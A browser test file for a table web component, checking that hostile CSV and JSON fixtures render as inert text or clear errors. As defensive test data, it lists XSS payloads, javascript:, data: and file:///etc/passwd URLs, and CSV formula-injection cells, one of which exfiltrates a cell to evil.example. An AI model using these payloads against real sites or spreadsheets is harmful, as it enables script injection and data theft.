/**
 * <vitrine-table> on the hostile fixtures of test/fixtures/hostile/ (see its SOURCES.md): every file
 * renders as inert text or as a clear error message, and nothing in it is executed.
 */
import { expect, nextFrame } from '@open-wc/testing';
import { failOnLitWarnings, resetCache, root, tableWith } from '../helpers/helpers.ts';
import type { VitrineErrorEvent, VitrineLoadEvent } from '../../src/internal/events.ts';
import type { VitrineTable } from '../../src/components/table/table.component.ts';

const HOSTILE = '/test/fixtures/hostile/';

type Pwned = { __pwned?: unknown };

function tbody(el: Element): HTMLTableSectionElement {
  const body = root(el).querySelector('tbody');
  expect(body, 'a table body').to.exist;
  return body!;
}
/** The body rows, each as the list of its cells. */
function bodyCells(el: Element): HTMLTableCellElement[][] {
  return [...tbody(el).querySelectorAll('tr[part~="row"]')].map((tr) => [...tr.querySelectorAll('td')]);
}
/** Cell of the row whose first cell reads `name`, in column `col`. */
function cellOf(el: Element, name: string, col = 1): HTMLTableCellElement {
  const row = bodyCells(el).find((cells) => cells[0].textContent!.trim() === name);
  expect(row, `row "${name}"`).to.exist;
  return row![col];
}
/** Waits long enough for an injected handler (onerror of a broken image, a script) to have run. */
async function settle(): Promise<void> {
  await nextFrame();
  await new Promise((r) => setTimeout(r, 300));
  await nextFrame();
}
function expectNothingRan(): void {
  expect((window as unknown as Pwned).__pwned, 'window.__pwned').to.equal(undefined);
}
/** Every element inside the table body is one of ours: a safe link or a safe image. */
function expectOnlySafeElements(el: Element): void {
  const body = tbody(el);
  expect(body.querySelector('script, iframe, object, embed, b, svg, style, link, meta, form')).to.equal(null);
  for (const node of body.querySelectorAll('td *')) {
    const tag = node.tagName.toLowerCase();
    expect(['a', 'img', 'span'], `element <${tag}> in a cell`).to.include(tag);
    for (const attr of node.getAttributeNames()) expect(attr, `attribute of <${tag}>`).to.not.match(/^on/i);
    if (tag === 'a') expect(node.getAttribute('href')).to.match(/^(https?:\/\/|mailto:)/);
    if (tag === 'img') expect(node.getAttribute('src')).to.match(/^https?:\/\//);
  }
  // No attribute anywhere in the element holds a script URL.
  for (const node of root(el).querySelectorAll('*')) {
    for (const attr of node.getAttributeNames()) {
      expect(node.getAttribute(attr)!, `${node.tagName} ${attr}`).to.not.match(/^\s*(javascript|vbscript|data):/i);
    }
  }
}
/** The page itself does not scroll sideways, and the element stays inside it. */
function expectWithinPage(el: Element): void {
  expect(document.documentElement.scrollWidth, 'page scroll width').to.be.at.most(window.innerWidth);
  expect(el.getBoundingClientRect().width, 'element width').to.be.at.most(window.innerWidth);
}
/** A CSV text (";", CRLF, '"' quotes) as rows of fields. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ';') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  if (field || row.length) rows.push([...row, field]);
  return rows;
}

describe('<vitrine-table> on hostile files', () => {
  let checkWarnings: () => void;
  beforeEach(() => {
    resetCache();
    delete (window as unknown as Pwned).__pwned;
    checkWarnings = failOnLitWarnings();
  });
  afterEach(() => checkWarnings());

  it('control: settle() waits long enough for an onerror handler to run, so "nothing ran" means something', async () => {
    const box = document.createElement('div');
    // The very payload of script-cells.csv, parsed as HTML on purpose, outside any Vitrine element.
    box.innerHTML = '<img src=x onerror=window.__pwned=2>';
    document.body.append(box);
    try {
      await settle();
      expect((window as unknown as Pwned).__pwned).to.equal(2);
    } finally {
      box.remove();
      delete (window as unknown as Pwned).__pwned;
    }
  });

  describe('script-cells.csv: markup, handlers and javascript: links in cells', () => {
    const SRC = HOSTILE + 'script-cells.csv';

    async function render(columns?: string): Promise<VitrineTable> {
      const { el, event } = await tableWith(columns ? { src: SRC, columns } : { src: SRC });
      expect(event.type).to.equal('vitrine-load');
      expect((event as VitrineLoadEvent).detail.rowCount).to.equal(2);
      await settle();
      expectNothingRan();
      expectOnlySafeElements(el);
      const text = tbody(el).textContent!;
      expect(text).to.include('<script>window.__pwned=1</script>');
      expect(text).to.include('<b>gras</b>');
      return el;
    }

    it('without columns: every cell is literal text, no link', async () => {
      const el = await render();
      expect(tbody(el).querySelector('a, img')).to.equal(null);
      expect(cellOf(el, '<script>window.__pwned=1</script>', 1).textContent!.trim()).to.equal('javascript:alert(1)');
      expect(cellOf(el, '<script>window.__pwned=1</script>', 2).textContent!.trim()).to.equal(
        '<img src=x onerror=window.__pwned=2>',
      );
    });

    it('with "lien : link": javascript: URLs stay text', async () => {
      const el = await render('nom, lien : link, montant');
      expect(tbody(el).querySelector('a, img')).to.equal(null);
      expect(cellOf(el, '<b>gras</b>', 1).textContent!.trim()).to.equal('javascript:window.__pwned=3');
      expect(cellOf(el, '<script>window.__pwned=1</script>', 1).textContent!.trim()).to.equal('javascript:alert(1)');
    });

    it('with ": image" on every column: no image from markup or script URLs', async () => {
      const el = await render('nom : image, lien : image, montant : image');
      expect(tbody(el).querySelector('a, img')).to.equal(null);
      expect(cellOf(el, '<script>window.__pwned=1</script>', 2).textContent!.trim()).to.equal(
        '<img src=x onerror=window.__pwned=2>',
      );
    });

    it('with "nom : link, lien : url, montant : text"', async () => {
      const el = await render('nom : link, lien : url, montant : text');
      expect(tbody(el).querySelector('a, img')).to.equal(null);
    });
  });

  describe('new fixtures', () => {
    it('wide-500-columns.csv: 500 header cells, the page does not overflow, the scroller scrolls sideways', async () => {
      const { el, event } = await tableWith({ src: HOSTILE + 'wide-500-columns.csv' });
      expect(event.type).to.equal('vitrine-load');
      expect((event as VitrineLoadEvent).detail.rowCount).to.equal(20);
      const ths = [...root(el).querySelectorAll('thead th')];
      expect(ths.length).to.equal(500);
      expect(ths[0].textContent!.trim()).to.equal('col_001');
      expect(ths[499].textContent!.trim()).to.equal('col_500');
      // Every fifth column holds decimal-comma numbers ("r*i,r%10"): col_005 row 3 = "15,3".
      expect(el.columns[4].type).to.equal('number');
      expect(ths[4].classList.contains('num')).to.equal(true);
      expect(el.columns[0].type).to.equal('string');
      expect(bodyCells(el)[2][4].textContent!.trim()).to.equal('15,3');
      expect(bodyCells(el)[2][0].textContent!.trim()).to.equal('r3c1');
      expect(bodyCells(el).every((cells) => cells.length === 500)).to.equal(true);
      expectWithinPage(el);
      const scroller = root(el).querySelector<HTMLElement>('[part="scroller"]')!;
      expect(scroller.scrollWidth).to.be.greaterThan(scroller.clientWidth * 2);
      scroller.scrollLeft = 2000;
      expect(scroller.scrollLeft).to.be.greaterThan(0);
      expect(window.scrollX).to.equal(0);
    });

    it('cells-100kb.csv: 100 KB cells of markup render as text within the page width', async () => {
      const { el, event } = await tableWith({ src: HOSTILE + 'cells-100kb.csv' });
      expect(event.type).to.equal('vitrine-load');
      expect((event as VitrineLoadEvent).detail.rowCount).to.equal(3);
      await settle();
      expectNothingRan();
      expectOnlySafeElements(el);
      expect(tbody(el).querySelector('img, script')).to.equal(null);
      const one = cellOf(el, 'un').textContent!.trim();
      expect(one.length).to.equal(100_000);
      expect(one.startsWith('<script>window.__pwned=5</script><script>')).to.equal(true);
      const two = cellOf(el, 'deux').textContent!;
      expect(two).to.include('<img src=x onerror=window.__pwned=6> <img');
      expect(two.trim().length).to.be.within(99_990, 100_000);
      expect(cellOf(el, 'trois').textContent!.trim()).to.equal('court');
      expectWithinPage(el);
    });

    describe('javascript-links.csv: a column of URLs with safe and unsafe schemes', () => {
      const SRC = HOSTILE + 'javascript-links.csv';
      const unsafe = [
        ['mailto', 'mailto:contact@example.fr'],
        ['javascript', 'javascript:alert(1)'],
        ['javascript-mixed-case', 'JaVaScRiPt:window.__pwned=8'],
        ['javascript-spaces', 'javascript:window.__pwned=9'],
        ['javascript-tab', 'java\tscript:window.__pwned=10'],
        ['data', 'data:text/html,<script>window.__pwned=11</script>'],
        ['vbscript', 'vbscript:msgbox(1)'],
        ['protocol-relative', '//evil.example/x'],
        ['relative', '/admin'],
        ['file', 'file:///etc/passwd'],
      ];

      it('"site : link": only http(s), mailto and www. become links', async () => {
        const { el, event } = await tableWith({ src: SRC, columns: 'nom, site : link' });
        expect(event.type).to.equal('vitrine-load');
        await settle();
        expectNothingRan();
        expectOnlySafeElements(el);
        const href = (name: string) => cellOf(el, name).querySelector('a')?.getAttribute('href');
        expect(href('https')).to.equal('https://www.data.gouv.fr/fr/datasets/');
        expect(href('http')).to.equal('http://example.fr/page');
        expect(href('https-upper')).to.equal('https://example.fr/MAJ');
        expect(href('https-markup')).to.match(/^https:\/\/example\.fr\/\?q=/);
        expect(href('https-markup')).to.not.include('<');
        expect(cellOf(el, 'https-markup').textContent!.trim()).to.equal(
          'https://example.fr/?q=<script>window.__pwned=7</script>',
        );
        expect(href('mailto')).to.equal('mailto:contact@example.fr');
        expect(href('email')).to.equal('mailto:contact@example.fr');
        expect(href('www')).to.equal('https://www.example.fr/');
        for (const a of tbody(el).querySelectorAll('a')) expect(a.getAttribute('rel')).to.include('noopener');
        expect(tbody(el).querySelectorAll('a').length).to.equal(7);
        for (const [name, text] of unsafe.slice(1)) {
          const cell = cellOf(el, name);
          expect(cell.querySelector('a'), name).to.equal(null);
          expect(cell.textContent!.trim(), name).to.equal(text);
        }
      });

      it('no format: only cells that start with http(s):// become links', async () => {
        const { el } = await tableWith({ src: SRC, columns: 'nom, site' });
        await settle();
        expectNothingRan();
        expectOnlySafeElements(el);
        const linked = bodyCells(el)
          .filter((cells) => cells[1].querySelector('a'))
          .map((cells) => cells[0].textContent!.trim());
        expect(linked).to.deep.equal(['https', 'http', 'https-upper', 'https-markup']);
        expect(cellOf(el, 'www').textContent!.trim()).to.equal('www.example.fr');
        expect(cellOf(el, 'email').textContent!.trim()).to.equal('contact@example.fr');
        for (const [name, text] of unsafe) expect(cellOf(el, name).textContent!.trim(), name).to.equal(text);
      });

      it('"site : image": images only from http(s) URLs', async () => {
        const { el } = await tableWith({ src: SRC, columns: 'nom, site : image' });
        await settle();
        expectNothingRan();
        expectOnlySafeElements(el);
        const imaged = bodyCells(el)
          .filter((cells) => cells[1].querySelector('img'))
          .map((cells) => [cells[0].textContent!.trim(), cells[1].querySelector('img')!.getAttribute('src')]);
        // A bare "www." host is taken as https, as for links; mail addresses are never images.
        expect(imaged.map(([name]) => name)).to.deep.equal(['https', 'http', 'https-upper', 'https-markup', 'www']);
        for (const [, src] of imaged) expect(src).to.match(/^https?:\/\//);
        for (const img of tbody(el).querySelectorAll('img')) expect(img.getAttribute('alt')).to.equal('site');
        expect(cellOf(el, 'email').querySelector('img')).to.equal(null);
        for (const [name, text] of unsafe) {
          const cell = cellOf(el, name);
          expect(cell.querySelector('img'), name).to.equal(null);
          expect(cell.textContent!.trim(), name).to.equal(text);
        }
      });
    });

    it('formula-cells.csv: toCsv() guards =, +, -, @ with an apostrophe, keeps numbers as numbers', async () => {
      const { el, event } = await tableWith({ src: HOSTILE + 'formula-cells.csv', columns: 'nom, note, montant' });
      expect(event.type).to.equal('vitrine-load');
      expect(el.columns.find((c) => c.name === 'montant')!.type).to.equal('number');
      // The table shows the text as written.
      expect(cellOf(el, 'plus').textContent!.trim()).to.equal("+cmd|' /C calc'!A0");
      const csv = el.toCsv();
      expect(csv.startsWith('\ufeff')).to.equal(true);
      expect(parseCsv(csv.slice(1))).to.deep.equal([
        ['nom', 'note', 'montant'],
        ['egal', '\'=HYPERLINK("http://evil.example/?x="&A1;"clic")', '-12,5'],
        ['plus', "'+cmd|' /C calc'!A0", '3,25'],
        ['moins', "'-2+3+cmd|' /C calc'!A0", '-0,5'],
        ['arobase', "'@SUM(1+1)*cmd|' /C calc'!A0", '1200,75'],
        ['texte', 'Rien de spécial', '40'],
      ]);
    });
  });

  describe('ragged and huge', () => {
    it('ragged.csv: short rows padded, a lone long row cut to the header, the blank row left out', async () => {
      const { el, event } = await tableWith({ src: HOSTILE + 'ragged.csv' });
      expect(event.type).to.equal('vitrine-load');
      // a;b;c / 1;2;3 / 4;5 / 6;7;8;9;10 / ;; / 11;12;13
      const rows = el.rows;
      expect(rows.map((r) => [r['a'], r['b'], r['c']])).to.deep.equal([
        [1, 2, 3],
        [4, 5, null],
        [6, 7, 8],
        [11, 12, 13],
      ]);
      // One row in four reaching past the header is a broken line, not a header with missing names
      // (src/data/csv.ts chooseWidth: extra columns need 10% of the rows and at least two rows):
      // its extra cells 9 and 10 are dropped, never shifted into another row or column.
      expect(el.columns.map((c) => c.name)).to.deep.equal(['a', 'b', 'c']);
      expect(bodyCells(el).map((cells) => cells.map((td) => td.textContent!.trim()))).to.deep.equal([
        ['1', '2', '3'],
        ['4', '5', ''],
        ['6', '7', '8'],
        ['11', '12', '13'],
      ]);
      expect(root(el).querySelector('[role="alert"]')).to.equal(null);
    });

    it('huge-cell.csv: the 200,000-character cell is shown as text within the page width', async () => {
      const { el, event } = await tableWith({ src: HOSTILE + 'huge-cell.csv' });
      expect(event.type).to.equal('vitrine-load');
      expect((event as VitrineLoadEvent).detail.rowCount).to.equal(2);
      const huge = cellOf(el, 'un').textContent!.trim();
      expect(huge.length).to.equal(200_000);
      expect(/^x+$/.test(huge)).to.equal(true);
      expectWithinPage(el);
    });
  });

  describe('files that are not data: a clear error, role="alert"', () => {
    async function errorOf(file: string, lang?: string) {
      const { el, event } = await tableWith(lang ? { src: HOSTILE + file, lang } : { src: HOSTILE + file });
      expect(event.type, file).to.equal('vitrine-error');
      const detail = (event as VitrineErrorEvent).detail;
      const alert = root(el).querySelector('[role="alert"]');
      expect(alert, 'visible alert').to.exist;
      expect(alert!.getAttribute('part')).to.equal('error');
      expect((alert as HTMLElement).offsetHeight, 'alert is visible').to.be.greaterThan(0);
      expect(root(el).querySelector('table'), 'no table beside the error').to.equal(null);
      expect(detail.url).to.include(file);
      await settle();
      expectNothingRan();
      return { el, detail, text: alert!.textContent!.replace(/\s+/g, ' ') };
    }

    for (const file of ['empty.csv', 'blank.csv', 'header-only.csv']) {
      it(`${file}: code "empty", says the file holds no data rows`, async () => {
        const { detail, text, el } = await errorOf(file);
        expect(detail.code).to.equal('empty');
        expect(text).to.include('Le fichier ne contient aucune ligne de données.');
        expect(text).to.include(file);
        await expect(el).to.be.accessible();
      });
    }

    it('header-only.csv in English', async () => {
      const { detail, text } = await errorOf('header-only.csv', 'en');
      expect(detail.code).to.equal('empty');
      expect(text).to.include('The file holds no data rows.');
    });

    for (const file of ['html-as-csv.csv', 'page.html']) {
      it(`${file}: code "parse", says it is a web page, runs none of its script`, async () => {
        const { detail, text, el } = await errorOf(file);
        expect(detail.code).to.equal('parse');
        expect(text).to.include('L’adresse renvoie une page web et non un fichier de données.');
        expect(root(el).querySelector('script, h1, title')).to.equal(null);
        expect(text).to.not.include('Oups');
      });
    }

    it('broken.json: code "parse", malformed JSON', async () => {
      const { detail, text } = await errorOf('broken.json');
      expect(detail.code).to.equal('parse');
      expect(text).to.include('Le fichier JSON est mal formé');
    });

    it('no-records.json: code "empty", says where to point records', async () => {
      const { detail, text } = await errorOf('no-records.json');
      expect(detail.code).to.equal('empty');
      expect(text).to.include('Aucune liste d’enregistrements');
      expect(text).to.include('records');
    });

    it('spreadsheet.xlsx: code "parse", says it is a spreadsheet to save as CSV', async () => {
      const { detail, text } = await errorOf('spreadsheet.xlsx');
      expect(detail.code).to.equal('parse');
      expect(text).to.include('tableur');
      expect(text).to.include('CSV');
    });
  });
});
